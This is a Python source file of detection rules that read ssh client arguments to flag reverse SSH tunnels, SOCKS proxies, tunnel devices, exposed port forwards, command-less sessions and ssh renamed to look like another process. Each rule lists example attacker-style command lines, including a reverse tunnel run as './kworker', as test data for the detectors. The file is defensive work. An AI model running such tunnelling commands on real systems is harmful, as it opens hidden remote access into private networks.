"""Tunnels made by ssh clients, read from their arguments."""

import re

from apps.detection.argv.invocation import Invocation
from apps.detection.rules.base import Detail, Rule
from apps.detection.rules.tunnels.ssh_reading import CLIENTS, SshCall, exposed, read_ssh, split_spec

_FORWARD = re.compile(r"(?:[^\s:]*:)?\d{1,5}:[\w.\-\[\]:]+:\d{1,5}")


def _detail(call: SshCall, spec: str) -> Detail:
    listen, target = split_spec(spec)
    return {"listen": listen, "target": target, "server": call.host, "port": call.port or 22}


def _call(invocation: Invocation) -> SshCall | None:
    call = read_ssh(invocation)
    return None if call is None or call.control_only else call


def _remote_forward(invocation: Invocation) -> Detail | None:
    call = _call(invocation)
    specs = call.forwards("R", "remoteforward") if call else []
    return _detail(call, specs[0]) | {"forwards": len(specs)} if call and specs else None


def _dynamic(invocation: Invocation) -> Detail | None:
    call = _call(invocation)
    specs = call.forwards("D", "dynamicforward") if call else []
    return _detail(call, specs[0]) if call and specs else None


def _device(invocation: Invocation) -> Detail | None:
    call = _call(invocation)
    if call is None:
        return None
    asked = call.forwards("w", "tunneldevice") + [
        v for v in call.settings.get("tunnel", ()) if v.lower() != "no"
    ]
    return {"device": asked[0], "server": call.host} if asked else None


def _exposed_local(invocation: Invocation) -> Detail | None:
    call = _call(invocation)
    if call is None:
        return None
    gateway = "g" in call.flags or "yes" in (v.lower() for v in call.settings.get("gatewayports", ()))
    for spec in call.forwards("L", "localforward"):
        if gateway or exposed(split_spec(spec)[0]):
            return _detail(call, spec)
    return None


def _silent(invocation: Invocation) -> Detail | None:
    """No command, nothing that listens here: what else is it for than a forward on the other side?"""
    call = _call(invocation)
    if call is None or call.command:
        return None
    nothing = "N" in call.flags or "none" in (v.lower() for v in call.settings.get("sessiontype", ()))
    if not nothing or call.flags & {"L", "D", "R", "W", "w", "M", "S", "J", "s"}:
        return None
    if set(call.settings) & {
        "localforward",
        "dynamicforward",
        "remoteforward",
        "controlmaster",
        "controlpath",
    }:
        return None
    return {"server": call.host, "port": call.port or 22}


def _disguised(invocation: Invocation) -> Detail | None:
    """Arguments that only an ssh client takes, under a name that is none."""
    if invocation.program in CLIENTS or not invocation.args:
        return None
    call = _call(invocation)
    if call is None or call.command or not call.flags & {"N", "f"}:
        return None
    specs = [spec for spec in call.forwards("R", "remoteforward") if _FORWARD.fullmatch(spec)]
    sure = "@" in call.host or call.port is not None or bool(call.settings)
    return _detail(call, specs[0]) | {"program": invocation.program} if specs and sure else None


REMOTE_FORWARD = Rule(
    slug="ssh-remote-forward",
    version=1,
    family="tunnels",
    behaviour="reverse tunnel",
    level="critical",
    technique="T1572",
    title="Reverse SSH tunnel",
    description=(
        "An ssh client asks its server to listen and to lead connections back into this network (-R or "
        "RemoteForward): whoever reaches the server reaches the target inside."
    ),
    false_positives="Deliberate call-home for maintenance, VS Code or debugger set-ups by an operator.",
    examples=(
        "ssh -fNR 2222:localhost:22 svc@203.0.113.47 -p 443",
        "ssh -o RemoteForward='8080 localhost:80' -N relay.example",
        "autossh -M 0 -f -N -R8080:127.0.0.1:8080 u@198.51.100.7",
        "sudo nohup setsid ssh host.example -R 0:10.0.0.5:6379 &",
        "dbclient -N -R 9000:localhost:22 x@198.51.100.7",
    ),
    match=_remote_forward,
    programs=CLIENTS,
)  # fmt: skip
SOCKS = Rule(
    slug="ssh-socks-proxy",
    version=1,
    family="tunnels",
    behaviour="proxy or port forward",
    level="high",
    technique="T1090",
    title="SOCKS proxy through SSH",
    description=(
        "An ssh client opens a SOCKS proxy (-D or DynamicForward): any program here can leave through it."
    ),
    false_positives="An operator's browser behind a bastion.",
    examples=("ssh -D 1080 -qCN user@198.51.100.7", "ssh user@host.example -D 127.0.0.1:9050"),
    match=_dynamic,
    programs=CLIENTS,
)
DEVICE = Rule(
    slug="ssh-tunnel-device",
    version=1,
    family="tunnels",
    behaviour="reverse tunnel",
    level="high",
    technique="T1572",
    title="Network device tunnelled through SSH",
    description="ssh -w joins two networks at the IP level; every host of either side becomes reachable.",
    false_positives="A site-to-site link kept by an operator.",
    examples=("ssh -w 0:0 root@198.51.100.7", "ssh -o Tunnel=ethernet -w any root@vpn.example"),
    match=_device,
    programs=frozenset({"ssh", "autossh"}),
)
EXPOSED = Rule(
    slug="ssh-exposed-forward",
    version=1,
    family="tunnels",
    behaviour="proxy or port forward",
    level="medium",
    technique="T1572",
    title="Port forward open to other machines",
    description=(
        "A local forward (-L) that listens on every interface (-g, 0.0.0.0 or *): other machines can use "
        "it."
    ),
    false_positives=(
        "A shared database or notebook forward on a login host. A forward on loopback never matches."
    ),
    examples=(
        "ssh -g -L 8000:10.0.0.9:80 gw.example", "ssh -L 0.0.0.0:5432:db.internal:5432 gw.example -N",
    ),
    match=_exposed_local,
    programs=CLIENTS,
)  # fmt: skip
SILENT = Rule(
    slug="ssh-without-command",
    version=1,
    family="tunnels",
    behaviour="reverse tunnel",
    level="medium",
    technique="T1572",
    title="SSH session that runs nothing and listens nowhere",
    description=(
        "ssh -N without any visible forward: the forward is most likely set in a configuration file, and "
        "since nothing listens here it leads inwards from the other side."
    ),
    false_positives="A connection kept warm; a ControlMaster is excluded.",
    examples=("ssh -fN relay.example", "ssh -F /tmp/cfg -N r"),
    match=_silent,
    programs=frozenset({"ssh", "autossh", "dbclient"}),
)
DISGUISED = Rule(
    slug="ssh-under-another-name",
    version=1,
    family="tunnels",
    behaviour="reverse tunnel",
    level="critical",
    technique="T1036.003",
    title="Reverse SSH tunnel under another name",
    description=(
        "A program that is not called ssh has the arguments of one: no command, and a forward from the other "
        "side into this network."
    ),
    false_positives="An own wrapper around ssh that takes the same options.",
    examples=(
        "./kworker -N -R 9001:127.0.0.1:8000 eve@198.51.100.7",
        "./python3 -fN -R 2222:localhost:22 -p 443 203.0.113.47",
    ),
    match=_disguised,
    hints=(":localhost:", ":127.0.0.1:", ":10.", ":192.168.", ":172."),
)
RULES = (REMOTE_FORWARD, DISGUISED, SOCKS, DEVICE, EXPOSED, SILENT)
